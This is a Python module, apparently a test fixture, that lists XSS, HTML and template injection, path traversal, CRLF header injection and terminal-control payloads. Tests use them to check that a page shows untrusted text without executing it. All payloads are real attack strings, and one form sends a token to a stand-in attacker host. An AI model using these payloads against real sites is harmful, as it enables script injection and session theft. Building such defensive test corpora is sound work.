"""Texts that a page must show and never obey: markup, scripts, template tags, control characters.

Each payload that would make an element marks it with the attribute `data-evil`, and each that would
run sets `window.evil`, so that a test can look for both. Sources: the classes of OWASP's XSS filter
evasion and DOM clobbering cheat sheets and of DOMPurify's tests; the texts are ours.
"""

from __future__ import annotations

# What a script of a payload does: leaves a trace, and opens a dialog.
_RUN = "window.evil=1;alert(1)"

_SCRIPTS = (
    f"<script data-evil>{_RUN}</script>",
    f"<ScRiPt data-evil>{_RUN}</sCrIpT>",
    f"<script data-evil >{_RUN}</script >",
    f"<script data-evil>{_RUN}//",
    f"<<script data-evil>{_RUN}//<</script>",
    f"</script><script data-evil>{_RUN}</script>",
    "<script data-evil src=data:text/javascript,window.evil=1></script>",
    "<script data-evil src=//evil.invalid/x.js></script>",
    f'<script data-evil type="module">{_RUN}</script>',
    f"<scr<script data-evil>ipt>{_RUN}</scr</script>ipt>",
    f"<noscript><p title=\"</noscript><img data-evil src=x onerror='{_RUN}'>\"></noscript>",
)
_HANDLERS = (
    f"<img data-evil src=x onerror={_RUN}>",
    f'<img data-evil src="x" onerror="{_RUN}">',
    f"<img/data-evil/src=x/onerror={_RUN}>",
    f"<body data-evil onload={_RUN}>",
    f"<input data-evil autofocus onfocus={_RUN}>",
    f"<details data-evil open ontoggle={_RUN}>",
    f"<video data-evil><source onerror={_RUN}></video>",
    f"<audio data-evil src=x onerror={_RUN}>",
    f"<select data-evil autofocus onfocus={_RUN}>",
    f"<marquee data-evil onstart={_RUN}>",
    f"<p data-evil style=animation-name:x onanimationstart={_RUN}>",
    f"<div data-evil onpointerenter={_RUN} style=position:fixed;inset:0>",
    f"<x data-evil onclick={_RUN} tabindex=1 id=main>",
    f"<iframe data-evil onload={_RUN}></iframe>",
)
_ATTRIBUTES = (
    f'" data-evil onmouseover="{_RUN}',
    f"' data-evil onmouseover='{_RUN}",
    f'" data-evil autofocus onfocus="{_RUN}" x="',
    f"` data-evil onmouseover=`{_RUN}",
    f'"><img data-evil src=x onerror={_RUN}>',
    f"'><img data-evil src=x onerror={_RUN}>",
    f"--><img data-evil src=x onerror={_RUN}>",
    f"]]><img data-evil src=x onerror={_RUN}>",
    f"*/</style><img data-evil src=x onerror={_RUN}>",
    f"</title><img data-evil src=x onerror={_RUN}>",
    f"</textarea><img data-evil src=x onerror={_RUN}>",
    f"</pre></code></td></table></main></body></html><img data-evil src=x onerror={_RUN}>",
    '<a data-evil href="x" target="_blank">look</a>',
    '" style="background:url(//evil.invalid/x)" data-evil="',
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://evil.invalid/%0a{_RUN}",
    "data:text/html,<script data-evil>window.evil=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXZpbD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.evil=1'/>",
    "vbscript:msgbox(1)",
    f"[click](javascript:{_RUN})",
    f"![picture](x'onerror='{_RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXZpbD0xPC9zY3JpcHQ+)",
    f'[click](https://evil.invalid" data-evil onmouseover="{_RUN})',
    f"<https://evil.invalid/' data-evil onmouseover='{_RUN}>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd\x00.html",
    "//evil.invalid/turn/0",
)
_VECTORS = (
    f"<svg data-evil onload={_RUN}>",
    f"<svg data-evil><script>{_RUN}</script></svg>",
    f"<svg data-evil><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg data-evil><a xlink:href=javascript:{_RUN}><text x=9 y=9>look</text></a></svg>",
    f"<svg data-evil><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg data-evil><use href=\"data:image/svg+xml,<svg id='x' onload='{_RUN}'/>#x\"></svg>",
    f"<math data-evil><mtext><img src=x onerror={_RUN}></mtext></math>",
)
_MUTATIONS = (
    f'<math data-evil><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f'<svg data-evil></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<form data-evil><math><mtext></form><form><mglyph><style></math><img src onerror="{_RUN}">',
    f'<noembed><img title="</noembed><img data-evil src onerror={_RUN}>">',
    f'<xmp><p title="</xmp><img data-evil src=x onerror={_RUN}>">',
    f"<listing>&lt;img data-evil src=x onerror={_RUN}&gt;</listing>",
    f"&lt;img data-evil src=x onerror={_RUN}&gt;",
    f"&#60;img data-evil src=x onerror={_RUN}&#62;",
    f"\\u003cimg data-evil src=x onerror={_RUN}\\u003e",
    f"\uff1cimg data-evil src=x onerror={_RUN}\uff1e",
    f"%3Cimg%20data-evil%20src%3Dx%20onerror%3D{_RUN}%3E",
    f"<img data-evil src=x\x00 onerror={_RUN}>",
    f"+ADw-script data-evil+AD4-{_RUN}+ADw-/script+AD4-",
)
_TEMPLATES = (
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{#",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.evil=1')()}}",
    "%(password)s %s %n",
)
_EMBEDDED = (
    "<iframe data-evil src=https://evil.invalid></iframe>",
    "<iframe data-evil srcdoc='<script>parent.evil=1</script>'></iframe>",
    "<object data-evil data=javascript:window.evil=1></object>",
    "<embed data-evil src=javascript:window.evil=1>",
    "<base data-evil href=//evil.invalid/>",
    "<meta data-evil http-equiv=refresh content='0;url=//evil.invalid'>",
    "<link data-evil rel=stylesheet href=//evil.invalid/x.css>",
    "<style data-evil>*{display:none}</style>",
    "<form data-evil action=//evil.invalid><input name=token><button>go</button></form>",
    "<plaintext data-evil>",
    "<!-- data-evil",
    "<template data-evil shadowrootmode=open><slot></slot></template>",
    "<dialog data-evil open>Your session ended.</dialog>",
    "<a data-evil id=location name=location href=x>clobber</a>",
    "<!DOCTYPE html><html data-evil><head></head></html>",
)
_CONTROLS = (
    "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x9b31m",
    "user\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark\u200e",
    "zero\u200bwidth\u2060join\ufeff",
    "null\x00byte\x08\x08\x08back\x7f",
    "line\u2028separator\u2029paragraph\x85next",
    "astral \U0001f469\u200d\U0001f4bb \U000e0041 tags",
    "combining " + "e" + "\u0301" * 40,
    "private \ue000 \U0010ffff \ufffe",
    "\r\nSet-Cookie: evil=1\r\n\r\n<html data-evil>",
)

PAYLOADS = (
    *_SCRIPTS,
    *_HANDLERS,
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_VECTORS,
    *_MUTATIONS,
    *_TEMPLATES,
    *_EMBEDDED,
    *_CONTROLS,
)
